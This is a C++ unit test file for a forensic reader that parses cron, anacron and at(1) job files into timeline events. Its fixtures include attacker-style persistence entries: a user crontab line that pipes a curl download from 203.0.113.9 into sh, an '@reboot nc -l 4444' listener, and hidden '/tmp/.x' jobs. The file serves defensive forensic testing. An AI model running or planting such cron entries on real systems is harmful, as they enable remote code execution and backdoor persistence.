// SPDX-License-Identifier: Apache-2.0
#include "artifact/cron/reader.h"

#include <gmock/gmock.h>

#include "artifact/cron/table.h"
#include "artifact/test_support.h"
#include "base/limits.h"

namespace ekshume::artifact::cron {
namespace {

using namespace artifact::testing;
using ::testing::ElementsAre;
using ::testing::IsEmpty;

std::vector<std::string> Described(const std::vector<Job>& jobs) {
  std::vector<std::string> texts;
  for (const Job& job : jobs) texts.push_back(job.schedule + "|" + job.user + "|" + job.command);
  return texts;
}

TEST(ParseTableTest, SystemTable) {
  EXPECT_THAT(Described(ParseTable("# comment\nSHELL=/bin/sh\nPATH = /bin:/usr/bin\n\n"
                                   "17 *\t* * *\troot    cd / && run-parts /etc/cron.hourly\n"
                                   "@reboot web /tmp/.x --a=b\n"
                                   "-*/5 0-6 1,2 jan mon-fri root A=1 x\n"
                                   "not a job at all here\n* * * * *\n* * * * * root\n",
                                   Dialect::kSystem)),
              ElementsAre("17 * * * *|root|cd / && run-parts /etc/cron.hourly",
                          "@reboot|web|/tmp/.x --a=b", "*/5 0-6 1,2 jan mon-fri|root|A=1 x"));
}

TEST(ParseTableTest, UserTable) {
  const auto jobs =
      ParseTable("# edit\n*/1 * * * * curl -fs http://203.0.113.9/x | sh\n", Dialect::kUser);
  EXPECT_THAT(Described(jobs), ElementsAre("*/1 * * * *||curl -fs http://203.0.113.9/x | sh"));
  EXPECT_EQ(jobs[0].offset, 7U);
}

TEST(ParseTableTest, Anacron) {
  EXPECT_THAT(Described(ParseTable("START_HOURS_RANGE=3-22\n1\t5\tcron.daily\tnice run-parts x\n"
                                   "@monthly 45 cron.monthly y\n",
                                   Dialect::kAnacron)),
              ElementsAre("every 1 days|root|nice run-parts x", "@monthly|root|y"));
}

TEST(AtTimeTest, IsInTheName) {
  EXPECT_EQ(AtTime("a00001019a3f6b"), (Timestamp{0x019a3f6bL * 60, 0}));
  EXPECT_FALSE(AtTime("a00001019a3f6"));
  EXPECT_FALSE(AtTime("a00001019a3f6g"));
}

TEST(CronTest, SaysWhatRunsWhenAndAsWhom) {
  Tree tree;
  tree.AddFile("etc/passwd", "eve:x:1000:1000::/home/eve:/bin/sh\n");
  tree.AddFileAt("etc/cron.d/.sys", "# x\n* * * * * root /tmp/.x\n", 1700000000);
  tree.AddFileAt("var/spool/cron/crontabs/eve", "@reboot nc -l 4444\n", 1700000001);
  tree.AddFileAt("etc/crontabs/root", "0 1 * * * /bin/true\n", 1700000002);
  tree.AddFileAs("etc/cron.daily/update", "#!/bin/sh\ncurl x\n", [](fs::Stat& stat) {
    stat.modified = {1700000003, 0};
    stat.permissions = 0755;
  });
  tree.AddFileAs("var/spool/at/a00001019a3f6b", "#!/bin/sh\nid\n",
                 [](fs::Stat& stat) { stat.uid = 1000; });
  tree.AddFile("var/spool/at/.SEQ", "1");
  Collected collected;
  Read(CronFormat(), HostView(tree), collected);
  EXPECT_THAT(collected.Column(Text::kMessage),
              ElementsAre("Cron job of root at * * * * *: /tmp/.x",
                          "Cron job of eve at @reboot: nc -l 4444",
                          "Cron job of root at 0 1 * * *: /bin/true",
                          "Cron script, daily: /etc/cron.daily/update",
                          "Job of at(1) of eve, due 2021-02-12T19:55:00.000000000Z: "
                          "/var/spool/at/a00001019a3f6b"));
  const Row& job = collected.rows[0];
  EXPECT_EQ(job.event.time, (Timestamp{1700000000, 0}));
  EXPECT_EQ(job.event[Text::kTimeKind], "Content Modification Time");
  EXPECT_EQ(job.event[Text::kAction], "scheduled");
  EXPECT_EQ(job.event[Text::kObjectKind], "cron job");
  EXPECT_EQ(job.event[Text::kObjectName], "* * * * *");
  EXPECT_EQ(job.event[Text::kUserName], "root");
  EXPECT_EQ(job.event[Text::kCommandLine], "/tmp/.x");
  EXPECT_EQ(job.event[Text::kPath], "/etc/cron.d/.sys");
  EXPECT_EQ(job.event.raw, "* * * * * root /tmp/.x");
  EXPECT_EQ(job.offset, 4U);
  const Event& script = collected.rows[3].event;
  EXPECT_EQ(script[Text::kCommandLine], "/etc/cron.daily/update");
  EXPECT_EQ(script.raw, "#!/bin/sh\ncurl x\n");
  EXPECT_EQ(script[Text::kTags], "");
  EXPECT_EQ(collected.rows[4].event[Text::kTags], "not_executable");
  EXPECT_THAT(collected.diagnostics.Sorted(), IsEmpty());
}

TEST(CronTest, KeepsTheBeginningOfALongScript) {
  Tree tree;
  tree.AddFile("etc/cron.daily/x", std::string(limits::kMaxSmallFileBytes + 1, 'x'));
  Collected collected;
  Read(CronFormat(), HostView(tree), collected);
  ASSERT_EQ(collected.rows.size(), 1U);
  EXPECT_EQ(collected.rows[0].event.raw, std::string(limits::kMaxSmallFileBytes, 'x') + "...");
}

TEST(CronTest, EveryDamage) {
  ReadEveryDamage(CronFormat(), "etc/cron.d/x", "A=b\n*/5 * * * * root x\n@reboot r y\n");
  ReadEveryDamage(CronFormat(), "etc/anacrontab", "1 5 cron.daily x\n");
}

}  // namespace
}  // namespace ekshume::artifact::cron
